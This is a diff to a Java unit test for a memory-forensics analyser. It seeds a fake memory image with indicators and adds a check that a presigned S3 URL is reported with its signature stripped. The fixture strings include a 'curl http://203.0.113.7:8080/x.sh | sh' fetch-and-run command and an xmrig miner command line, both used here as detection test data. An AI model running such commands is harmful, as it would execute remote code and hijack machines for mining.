@@ -39,7 +39,8 @@ class MemoryAnalysisTest {
     Random rnd = new Random(11);
     range(out, rnd, 0x1000, 0x9ffff, new Object[][] {{0x2000L, BANNER}, {0x5000L, "/usr/bin/xmrig --donate-level 1 -o pool.example:3333"}});
     range(out, rnd, 0x100000, 0x1fffff, new Object[][] {{0x100800L, "curl http://203.0.113.7:8080/x.sh | sh"}, {0x180000L, BANNER},
-        {0x190000L, "connect 198.51.100.23:4444 ok"}});
+        {0x190000L, "connect 198.51.100.23:4444 ok"},
+        {0x1a0000L, "PUT https://b.s3.amazonaws.com/custody/memory.lime?partNumber=3&X-Amz-Signature=0123456789abcdef0123 HTTP/1.1"}});
     return out.toByteArray();
   }
 
@@ -87,6 +88,9 @@ class MemoryAnalysisTest {
     assertThat(r.network()).filteredOn(f -> f.text().equals("198.51.100.23:4444")).singleElement()
         .satisfies(f -> assertThat(f.physicalAddress()).isEqualTo("0x190008"));
     assertThat(r.processes()).extracting(MemoryReport.Found::text).contains("/usr/bin/xmrig --donate-level 1 -o pool.example:3333");
+    // a presigned URL in memory (the capture's own upload) is reported without its query string
+    assertThat(r.network()).extracting(MemoryReport.Found::text).contains("https://b.s3.amazonaws.com/custody/memory.lime?***")
+        .noneMatch(t -> t.contains("X-Amz-Signature"));
     assertThat(r.yara()).singleElement().satisfies(m -> {
       assertThat(m.rule()).isEqualTo("miner_xmrig");
       assertThat(m.strings()).extracting(MemoryReport.YaraString::physicalAddress).containsExactly("0x5009", "0x5011");
